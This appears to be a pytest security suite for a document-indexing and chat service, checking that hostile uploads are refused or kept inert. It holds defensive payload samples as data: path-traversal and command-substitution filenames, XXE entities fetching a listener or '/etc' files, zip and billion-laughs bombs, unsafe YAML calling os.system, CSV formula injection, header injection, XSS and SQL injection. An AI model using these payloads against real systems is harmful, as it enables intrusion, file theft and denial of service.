"""A hostile file is refused or kept as plain text: it escapes no folder, fetches nothing and runs nothing."""

from __future__ import annotations

import json
import re
import stat
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import docx
import pytest
from markdown_it import MarkdownIt

from index.catalog.lock import HOLDER_FILE
from tests.index.loaders.test_endless import packed_pdf, packed_sheet
from tests.security.attacks import CANARY, LISTENER, Answered, Target
from tests.support.opendocument_files import packed
from tests.support.pdf_files import draw, slow_page
from tests.support.word_files import changed

pytestmark = pytest.mark.slow_cases

GATE = "The council of Varda closed the third gate of the dam on Monday."
KEPT_OR_REFUSED = frozenset({201, 400, 413, 422})
BOMB_SECONDS = 60.0


@contextmanager
def uploaded(target: Target, name: str, content: bytes, **said: str) -> Iterator[Answered]:
    """Upload a file, and delete it at the end if it was accepted."""
    answered = target.upload(name, content, **said)
    target.assert_harmless(answered)
    try:
        yield answered
    finally:
        if answered.status == 201:
            path = f"/v1/documents/{answered.json['document_id']}"
            assert target.ask("DELETE", path).status in {200, 204}


# Names


NAMES = {
    "dots": "../../evil.txt",
    "dots and backslashes": "..\\..\\evil.txt",
    "an absolute path": "/etc/cron.d/evil.txt",
    "a drive": "C:\\Windows\\System32\\evil.txt",
    "a share": "\\\\attacker.example\\share\\evil.txt",
    "a device": "\\\\.\\pipe\\evil.txt",
    "a URL": "http://attacker.example/evil.txt",
    "an alternate stream": "evil.txt:hidden.txt",
    "escaped dots": "%2e%2e%2fevil.txt",
    "an escaped line's end": "evil%0d%0aX-Injected: yes.txt",
    "a null": "evil.txt\0.txt",
    "controls": "evil\x1b[2J\x07.txt",
    "words from right to left": "evil\u202etxt.txt",
    "half a character": "evil\ud800.txt",
    "a hidden file": ".evil.txt",
    "a folder of ours": ".incoming-1/evil.txt",
    "the catalog": "catalog.sqlite",
    "the server's file": "server.json",
    "a sidecar": "cambodia-scam-raids.md.meta.yaml",
    "dots alone": "..",
    "a dot alone": ".",
    "nothing": "",
    "spaces": "   .txt",
    "a name of Windows": "CON.txt",
    "5,000 letters": "e" * 5000 + ".txt",
    "2,000 marks": "e" + "\u0301" * 2000 + ".txt",
    "a script": "<img src=x onerror=alert(1)>.txt",
    "a formula": "=HYPERLINK(1).txt",
    "an option": "--home=evil.txt",
    "a variable": "$(touch evil).txt",
}


def beside_uploads(target: Target) -> set[Path]:
    """The other files of the home, except the one that exists only while a process writes."""
    return {file for file in target.home.iterdir() if file.name not in {"uploads", HOLDER_FILE}}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_file_lies_in_the_uploads_whatever_its_name(target: Target, name: str) -> None:
    before = beside_uploads(target)
    with uploaded(target, name, GATE.encode()) as answered:
        assert answered.status in KEPT_OR_REFUSED
        assert "x-injected" not in answered.headers
        if answered.status == 201:
            path = answered.json["path"]
            assert re.search(r"[/\\\x00-\x1f\x7f\ud800-\udfff]", path) is None
            assert path not in {".", ".."}
            assert len(path.encode()) <= 255
            assert (target.home / "uploads" / path).is_file()
    assert beside_uploads(target) == before
    assert list(target.home.parent.rglob("evil*")) == []


# Archives


def word(**parts: str | bytes) -> bytes:
    """A Word document with further parts, by name."""
    made = BytesIO(changed("word/document.xml", b"MARK", GATE.encode()))
    with ZipFile(made, "a", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def linked(data: bytes, name: str, leads_to: str) -> bytes:
    """An archive in which one member is a symbolic link instead."""
    link, made = ZipInfo(name), BytesIO()
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    link.comment = leads_to.encode()
    with ZipFile(BytesIO(data)) as source, ZipFile(made, "w") as archive:
        for entry in source.namelist():
            if entry != name:
                archive.writestr(entry, source.read(entry))
        archive.writestr(link, leads_to)
    return made.getvalue()


def book(page: str) -> bytes:
    """An EPUB of one page, of XHTML."""
    made = BytesIO()
    with ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/epub+zip")
        archive.writestr(
            "META-INF/container.xml",
            '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
            '<rootfile full-path="book.opf" media-type="application/oebps-package+xml"/>'
            "</rootfiles></container>",
        )
        archive.writestr(
            "book.opf",
            '<package xmlns="http://www.idpf.org/2007/opf"><metadata '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>The dam</dc:title></metadata><manifest>'
            '<item id="a" href="page.xhtml" media-type="application/xhtml+xml"/></manifest>'
            '<spine><itemref idref="a"/></spine></package>',
        )
        archive.writestr("page.xhtml", page)
    return made.getvalue()


TEXT = f"<text:p>{GATE}</text:p>"
PAGE = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title/></head><body><p>{GATE}</p></body></html>'
OUTSIDE = (
    "../../../evil.txt",
    "/tmp/evil.txt",  # noqa: S108 (nobody may write it)
    "\\\\attacker.example\\share\\evil.txt",
    "C:\\evil.txt",
    "..\\..\\evil.txt",
)


ARCHIVES: Mapping[str, Callable[[], bytes]] = {
    "docx": word,
    "odt": lambda: packed(TEXT),
    "epub": lambda: book(PAGE),
}


@pytest.mark.parametrize("kind", ARCHIVES)
def test_no_member_of_an_archive_is_written_elsewhere(target: Target, kind: str) -> None:
    for name in OUTSIDE:
        made = BytesIO(ARCHIVES[kind]())
        with ZipFile(made, "a") as archive:
            archive.writestr(name, "planted")
        with uploaded(target, f"evil.{kind}", made.getvalue()) as answered:
            assert answered.status in KEPT_OR_REFUSED
        assert list(target.home.parent.rglob("evil.txt")) == []


@pytest.mark.parametrize(
    ("kind", "member"),
    [
        ("docx", "word/document.xml"),
        ("docx", "docProps/core.xml"),
        ("odt", "content.xml"),
        ("epub", "page.xhtml"),
    ],
)
def test_a_link_in_an_archive_is_not_followed(target: Target, kind: str, member: str) -> None:
    content = linked(ARCHIVES[kind](), member, str(target.canary))
    with uploaded(target, f"linked.{kind}", content) as answered:
        assert answered.status in KEPT_OR_REFUSED
        if answered.status == 201:
            assert_no_secret(target, answered)


@pytest.mark.parametrize("kind", ["docx", "odt", "epub", "xlsx"])
def test_an_archive_that_grows_without_measure_is_refused_in_time(target: Target, kind: str) -> None:
    made = BytesIO(word())
    with ZipFile(made, "a", ZIP_DEFLATED) as archive:
        archive.writestr("word/media/bomb.bin", b"\0" * 400_000_000)
    with uploaded(target, f"bomb.{kind}", made.getvalue()) as answered:
        assert answered.status == 422
        assert answered.seconds < BOMB_SECONDS


HUGE = {
    "text.pdf": lambda: packed_pdf(b"BT /F1 9 Tf (x) Tj ET\n"),
    "rows.xlsx": lambda: packed_sheet(2 << 30),
    "columns.csv": lambda: (",".join(["1"] * 100_000) + "\n").encode() * 10,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", HUGE)
def test_a_small_file_that_becomes_huge_is_refused_in_time(target: Target, name: str) -> None:
    with uploaded(target, name, HUGE[name]()) as answered:
        assert answered.status == 422
        assert answered.seconds < BOMB_SECONDS


DEEP = {
    "quotes.md": lambda: b">" * 100_000 + b" x\n",
    "lists.md": lambda: b"- " * 50_000 + b"x\n",
    "emphasis.md": lambda: b"*a **b " * 150_000,
    "groups.rtf": lambda: b"{\\rtf1 " + b"{" * 1_000_000 + b"x" + b"}" * 1_000_000 + b"}",
    "cells.rtf": lambda: b"{\\rtf1 \\trowd" + b"\\cellx1" * 400_000 + b"x\\cell\\row}",
    "elements.html": lambda: b"<div>" * 1_000_000 + b"x",
    "lists.html": lambda: b"<ul><li>" * 300_000 + b"x",
    "tables.html": lambda: b"<table><tr><td>" * 100_000 + b"x",
    "messages.eml": lambda: b"Subject: s\nContent-Type: message/rfc822\n\n" * 50_000 + b"Subject: s\n\nx\n",
    "attachments.eml": lambda: (
        b"Subject: s\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nhello\n"
        + b"--b\nContent-Disposition: attachment; filename=a\n\nx\n" * 100_000
    ),
    "words.eml": lambda: b"Subject: " + b"=?utf-8?B?YQ==?= " * 100_000 + b"\n\nhello\n",
}


@pytest.mark.slow
@pytest.mark.parametrize("name", DEEP)
def test_a_file_with_countless_parts_ends_in_time(target: Target, name: str) -> None:
    with uploaded(target, name, DEEP[name]()) as answered:
        assert answered.status in KEPT_OR_REFUSED
        assert answered.seconds < BOMB_SECONDS


def test_a_page_that_takes_too_long_to_draw_is_given_up(target: Target) -> None:
    with uploaded(target, "slow.pdf", draw(slow_page)) as answered:
        page = f"/v1/documents/{answered.json['document_id']}/pages/1.png"
        for width in (600, 2000):
            refused = target.ask("GET", f"{page}?width={width}")
            assert refused.status == 404
            assert "takes more than 10 seconds to draw" in refused.text


def test_an_archive_in_an_archive_is_not_unpacked(target: Target) -> None:
    inner = BytesIO()
    with ZipFile(inner, "w", ZIP_DEFLATED) as archive:
        archive.writestr("bomb.bin", b"\0" * 100_000_000)
    with uploaded(target, "nested.docx", word(**{"word/inner.zip": inner.getvalue()})) as answered:
        assert answered.status in KEPT_OR_REFUSED
        assert answered.seconds < BOMB_SECONDS


# Entities and references


ENTITIES = {
    "a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file://CANARY">]>',
    "a file by a parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file://CANARY"> %p;]>',
    "an address": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{LISTENER}/e">]>',
    "a description elsewhere": f'<!DOCTYPE x SYSTEM "{LISTENER}/e.dtd" [<!ENTITY e "x">]>',
    "a billion laughs": (
        '<!DOCTYPE x [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
        + '<!ENTITY e "&j;">]>'
    ),
    "an entity of itself": '<!DOCTYPE x [<!ENTITY e "&e;">]>',
}


@pytest.mark.parametrize("kind", ["docx", "odt", "epub", "html"])
@pytest.mark.parametrize("head", ENTITIES.values(), ids=ENTITIES)
def test_no_entity_brings_in_a_file_or_an_address(target: Target, kind: str, head: str) -> None:
    head = target.filled(head.replace("CANARY", CANARY))
    declaration = f'<?xml version="1.0"?>{head}'.encode()
    made = {
        "docx": lambda: changed(
            "word/document.xml", re.compile(rb"^<\?xml[^>]*>"), declaration, b"MARK", f"{GATE} &e;".encode()
        ),
        "odt": lambda: BytesIO(packed(f"<text:p>{GATE} &e;</text:p>")).getvalue(),
        "epub": lambda: book(declaration.decode() + PAGE.replace(GATE, f"{GATE} &e;")),
        "html": lambda: declaration + PAGE.replace(GATE, f"{GATE} &e;").encode(),
    }[kind]()
    if kind == "odt":
        made = with_head(made, "content.xml", declaration)
    with uploaded(target, f"entities.{kind}", made) as answered:
        assert answered.status in KEPT_OR_REFUSED
        assert answered.seconds < BOMB_SECONDS
        if answered.status == 201:
            assert_no_secret(target, answered)


def with_head(data: bytes, name: str, head: bytes) -> bytes:
    """An archive in which one member begins with ``head``."""
    made = BytesIO()
    with ZipFile(BytesIO(data)) as source, ZipFile(made, "w") as archive:
        for entry in source.namelist():
            archive.writestr(entry, (head if entry == name else b"") + source.read(entry))
    return made.getvalue()


REFERENCES = {
    "md": f'![x]({LISTENER}/a.png) <iframe src="file://{CANARY}"></iframe> [y]({CANARY})\n\n{GATE}\n',
    "html": (
        f'<html><head><base href="{LISTENER}/"><link rel="stylesheet" href="a.css">'
        f'<meta http-equiv="refresh" content="0;url={LISTENER}"></head><body><p>{GATE}</p>'
        f'<img src="{LISTENER}/a.png"><iframe src="file://{CANARY}"></iframe>'
        f'<object data="file://{CANARY}"></object><script src="{LISTENER}/a.js"></script></body></html>'
    ),
    "eml": (
        "From: a@example.org\r\nSubject: The gate\r\nContent-Type: message/external-body; "
        f'access-type=local-file; name="{CANARY}"\r\n\r\n{GATE}\r\n'
    ),
    "rtf": rf"{{\rtf1 {GATE} {{\field{{\*\fldinst INCLUDETEXT {CANARY}}}{{\fldrslt x}}}}}}",
    "csv": f'name,value\n"=WEBSERVICE(""{LISTENER}"")",1\n"=cmd|\'/c calc\'!A1",2\n{GATE},3\n',
}


@pytest.mark.parametrize("kind", REFERENCES)
def test_nothing_that_a_file_refers_to_is_read_or_fetched(target: Target, kind: str) -> None:
    content = target.filled(REFERENCES[kind]).encode()
    with uploaded(target, f"references.{kind}", content) as answered:
        assert answered.status in KEPT_OR_REFUSED
        if answered.status == 201:
            assert_no_secret(target, answered)


# Metadata of files and uploads


HEADS = {
    "an object": "title: !!python/object/apply:os.system ['touch evil']",
    "another object": "title: !!python/object/new:tuple [[1]]",
    "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "\n".join(
        f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    ),
    "a loop": "a: &a [*a]",
    "depth": "a: " + "[" * 10_000 + "]" * 10_000,
    "a path for a collection": "collection: ../../etc",
    "dates that are none": "published: 9999-99-99",
    "a number for a title": "title: 1e999",
    "half a character": 'title: "\\ud800"',
    "a null": 'title: "a\\0b"',
    "lines": 'title: "a\\r\\nSet-Cookie: b=c"',
}


@pytest.mark.parametrize("head", HEADS.values(), ids=HEADS)
def test_what_a_file_says_of_itself_is_data(target: Target, head: str) -> None:
    with uploaded(target, "front.md", f"---\n{head}\n---\n\n{GATE}\n".encode()) as answered:
        assert answered.status in KEPT_OR_REFUSED
        assert answered.seconds < BOMB_SECONDS
        assert "set-cookie" not in answered.headers
    assert list(target.home.parent.rglob("evil*")) == []


WORDS = {
    "a path": "../../etc/passwd",
    "a null": "a\0b",
    "half a character": "\ud800",
    "lines": "a\r\nX-Injected: yes",
    "a script": "<script>alert(1)</script>",
    "SQL": "'; DROP TABLE documents; --",
    "500 marks": "e" + "\u0301" * 499,
    "a template": "{{7*7}} ${7*7} #{7*7} %s%n",
}


@pytest.mark.parametrize("words", WORDS.values(), ids=WORDS)
def test_what_is_said_of_a_file_is_data(target: Target, words: str) -> None:
    for field in ("title", "publisher", "author", "published", "language", "collection"):
        with uploaded(target, "said.txt", GATE.encode(), **{field: words}) as answered:
            assert answered.status in KEPT_OR_REFUSED
            assert "x-injected" not in answered.headers
            if answered.status == 201:
                path = f"/v1/documents/{answered.json['document_id']}"
                headers = [("Content-Type", "application/json")]
                patched = target.ask("PATCH", path, headers, json.dumps({field: words}).encode())
                target.assert_harmless(patched)
                assert patched.status in {200, 400, 422}


# Scripts


SCRIPT = "<script>alert('planted')</script>"
IMAGE = '<img src=x onerror="alert(1)">'
PLANTED = f"""---
title: "The mill {SCRIPT}"
publisher: "{IMAGE.replace('"', "'")}"
---

The mill of Zorbendal {SCRIPT} ground 4,711 sacks of barley {IMAGE} in the year 2031.
"""
ACTIVE = ("<script", "<img", "<svg", "javascript:", "<iframe")


@pytest.fixture(scope="module")
def asked(target: Target) -> Iterator[Mapping[str, Any]]:
    """The answer to a question with a script, which quotes a document full of scripts."""
    with uploaded(target, f"mill {SCRIPT[:8]}.md", PLANTED.encode()) as answered:
        assert answered.status == 201
        question = f"How many sacks of barley did the mill of Zorbendal grind? {SCRIPT}"
        answer = target.post("/v1/chat", {"question": question}).json
        assert "4,711" in answer["citations"][0]["quote"]
        yield {**answer, "document_id": answered.json["document_id"]}
        assert target.ask("DELETE", f"/v1/conversations/{answer['conversation_id']}").status == 204


def test_scripts_in_a_document_are_data_of_json(target: Target, asked: Mapping[str, Any]) -> None:
    document, answer = f"/v1/documents/{asked['document_id']}", f"/v1/answers/{asked['answer_id']}"
    for path in (
        *("/v1/documents", document, f"{document}/text", f"{document}/matches?query=script"),
        *(f"{document}/citations", answer, f"{answer}/text", f"{answer}/suggestions"),
        *("/v1/conversations", f"/v1/conversations/{asked['conversation_id']}"),
    ):
        answered = target.ask("GET", path)
        assert answered.status == 200
        assert answered.headers["content-type"] == "application/json"
        assert answered.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answered.headers["content-security-policy"]
        assert "script-src" not in answered.headers["content-security-policy"]


def test_scripts_in_a_document_are_words_of_exports_which_are_saved_and_not_shown(
    target: Target, asked: Mapping[str, Any]
) -> None:
    answer = f"/v1/answers/{asked['answer_id']}"
    html, conversation, markdown, word = [
        target.ask("GET", path)
        for path in (
            f"{answer}.html",
            f"/v1/conversations/{asked['conversation_id']}.html",
            f"{answer}.md",
            f"{answer}.docx",
        )
    ]
    for answered in (html, conversation, markdown, word):
        assert answered.headers["content-disposition"].startswith("attachment")
        assert answered.headers["x-content-type-options"] == "nosniff"
    for answered in (html, conversation):
        assert "alert(" in answered.text
        assert "default-src 'none'" in answered.headers["content-security-policy"]
        assert "script-src" not in answered.headers["content-security-policy"]
    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown.text)
    copied = target.ask("GET", f"{answer}/text").json["html"]
    for page in (html.text, conversation.text, rendered, copied):
        assert "4,711" in page
        assert [tag for tag in ACTIVE if tag in page.lower()] == []
    assert "4,711" in "".join(each.text for each in docx.Document(BytesIO(word.body)).paragraphs)


def test_scripts_in_a_document_are_words_of_the_page(target: Target, asked: Mapping[str, Any]) -> None:
    data = [asked["question"], "", None, ""]
    body = {"data": data, "fn_index": 0, "session_hash": "scripts", "trigger_id": 4, "event_data": None}
    assert target.post("/gradio_api/queue/join", body).status == 200
    said = target.ask("GET", "/gradio_api/queue/data?session_hash=scripts").text
    sent = [json.loads(line[6:]) for line in said.splitlines() if line.startswith("data: ")]
    shown = json.dumps([each.get("output") for each in sent]).lower()
    assert "711" in shown
    assert [tag for tag in ACTIVE if tag in shown] == []
    kept = re.findall(r"fn-answer-([0-9a-f]{32})", shown)
    assert target.ask("DELETE", f"/v1/answers/{kept[-1]}").status == 204


# Names of exported files


@pytest.mark.parametrize(
    "question",
    [
        "Who closed it?\r\nSet-Cookie: a=b",
        "Who closed it?\nContent-Type: text/html\n\n<script>",
        'Who closed it?"; filename="evil.exe',
        "../../../etc/passwd?",
        "Who\u2028closed\u0085it?",
        "\u202egpj.exe?",
    ],
    ids=["a header", "a page", "another name", "a path", "other line ends", "right to left"],
)
def test_a_question_puts_nothing_into_the_headers_of_its_file(target: Target, question: str) -> None:
    answer = target.post("/v1/chat", {"question": question}).json
    for suffix in ("md", "html", "docx"):
        answered = target.ask("GET", f"/v1/answers/{answer['answer_id']}.{suffix}")
        assert (answered.status, "set-cookie" in answered.headers) == (200, False)
        disposition = answered.headers["content-disposition"]
        pattern = rf"attachment; filename=\"[\w-]+\.{suffix}\"; filename\*=UTF-8''[\w%.-]+\.{suffix}"
        assert re.fullmatch(pattern, disposition, re.ASCII), disposition
        assert answered.headers["content-type"].startswith(
            {"md": "text/markdown", "html": "text/html", "docx": "application/vnd"}[suffix]
        )
    assert target.ask("DELETE", f"/v1/answers/{answer['answer_id']}").status == 204


def assert_no_secret(target: Target, answered: Answered) -> None:
    """The text of the document has no secret of the server."""
    text = target.ask("GET", f"/v1/documents/{answered.json['document_id']}/text")
    target.assert_harmless(text)
    assert (text.status, len(text.json["text"]) < 10_000) == (200, True)
